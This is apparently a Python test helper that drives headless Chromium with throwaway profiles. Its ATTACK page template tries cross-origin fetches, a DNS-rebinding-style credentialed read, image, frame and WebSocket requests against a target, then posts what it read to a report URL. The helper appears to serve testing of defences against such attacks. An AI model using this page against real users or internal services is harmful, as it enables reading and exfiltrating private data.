"""Headless Chromium, each time with a new profile."""
import re
import shlex
import subprocess
import tempfile

from .bodies import eventually
from .scripted import ScriptedServer, response
from .servers import find

#: Without the requests that a browser sends by itself, as far as Chromium has options for that. Root cannot use its sandbox.
OPTIONS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
           "--disable-component-update", "--disable-extensions", "--disable-sync", "--no-first-run"]
#: Makes Chromium print the document after 10 s of a clock that stands still while a request runs, and otherwise runs fast.
PRINTING = ["--virtual-time-budget=10000", "--dump-dom"]

#: A page whose title is replaced by what its script fetches from `page.txt`.
PAGE = """<title>waiting</title>
<script>fetch("page.txt").then(answer => answer.text()).then(text => { document.title = text })</script>
"""


def command(url, profile, *options, more=PRINTING):
    """Returns a shell command that prints the document of `url`. In `options`, the shell replaces variables."""
    words = [find("chromium"), *OPTIONS, *more, f"--user-data-dir={profile}"]
    return " ".join([*map(shlex.quote, words), *(f'"{option}"' for option in options), shlex.quote(url)])


def through_front(url, profile):
    """Returns a shell command for `watchword run`: the user information of a proxy's URL would make Chromium ignore it, and
    without the second option it would reach this machine directly."""
    return command(url, profile, "--proxy-server=${http_proxy##*@}", "--proxy-bypass-list=<-loopback>")


def show(url, *options, seconds=60):
    """Returns the document of `url` after its scripts have run."""
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            ["sh", "-c", command(url, profile, *options)], capture_output=True, text=True, timeout=seconds,
            env={"PATH": "/usr/bin:/bin", "HOME": profile})
    assert done.returncode == 0, done.stderr
    return done.stdout


def title(document):
    found = re.search(r"<title>(.*?)</title>", document, re.DOTALL)
    return found and found[1].strip()


#: What a page of an attacker tries at the URL TARGET. It sends the results to REPORT: a word for each, with the text that it read.
ATTACK = """<body><script>
const target = "TARGET"
const loaded = (kind, url) => new Promise(resolve => {
  const element = document.createElement(kind)
  element.onload = element.onerror = event => resolve(event.type)
  element.src = url
  document.body.append(element)
})
const attempts = {
  simple: () => fetch(target + "simple", { mode: "no-cors" }),
  read: async () => {  // The browser may have opened several connections to this server before the name was rebound.
    let result
    do result = await fetch(target + "read", { credentials: "include" }); while (result.headers.has("X-Attacker"))
    return result
  },
  post: () => fetch(target + "post", { mode: "no-cors", method: "POST", body: "text" }),
  preflight: () => fetch(target + "preflight", { method: "PUT", headers: { "X-Field": "value" } }),
  image: () => loaded("img", target + "image"),
  frame: () => loaded("iframe", target + "frame"),
  socket: () => new Promise(resolve => {
    const socket = new WebSocket(target.replace("http", "ws") + "socket")
    socket.onopen = socket.onerror = event => resolve(event.type)
  }),
}
const attack = async names => {
  const results = []
  for (const name of names) {
    try {
      const result = await attempts[name]()
      results.push(name + "=" + (typeof result == "string" ? result : result.type + (result.status || "") + (await result.text())))
    } catch { results.push(name + "=failed") }
  }
  fetch("REPORT", { mode: "no-cors", method: "POST", body: results.join(" ") })
}
attack(NAMES)
</script>"""


class Attacker(ScriptedServer):
    """A web server whose page tries these `attempts` at `target`."""

    def __init__(self, target, *names):
        super().__init__(lambda request: self.answer(request))
        self.reports = []
        report = self.url + "/report"
        self.page = ATTACK.replace("TARGET", target).replace("REPORT", report).replace("NAMES", repr(list(names))).encode()

    def answer(self, request):
        if request.target == "/report":
            self.reports.append(request.body.decode())
        body = b"" if request.method == "POST" else self.page
        return response(200, body, "Content-Type: text/html", "Connection: close", "X-Attacker: yes")

    def attack(self, url, *options):
        """Visits the page at `url` with Chromium; returns its report."""
        number = len(self.reports)
        # Other processes of Chromium may still write to it when the first has ended.
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile, subprocess.Popen(
                ["sh", "-c", "exec " + command(url, profile, *options, more=[])], stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={"PATH": "/usr/bin:/bin", "HOME": profile}) as process:
            try:
                return eventually(lambda: self.reports[number:], "the page has reported", seconds=60)[0]
            finally:
                process.terminate()
